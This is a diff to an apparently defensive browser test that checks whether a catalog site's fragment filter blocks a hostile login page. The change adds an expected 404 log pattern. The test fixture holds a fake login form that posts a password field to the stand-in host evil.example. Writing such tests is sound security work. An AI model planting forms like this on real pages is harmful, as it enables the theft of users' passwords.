@@ -50,6 +50,8 @@ test('[FILTER-17] a fragment that is a login page or holds scripts runs nothing 
   quiet,
 }) => {
   quiet.expectNoise(/products of the category .* were not loaded/)
+  // The picture of the hostile fragment.
+  quiet.expectNoise(/status of 404/)
   await page.goto('/catalog/suhie-smesi-i-gruntovki')
   const before = await names(page)
   let body = '<!doctype html><title>Вход</title><form action="//evil.example"><input name="password"></form>'
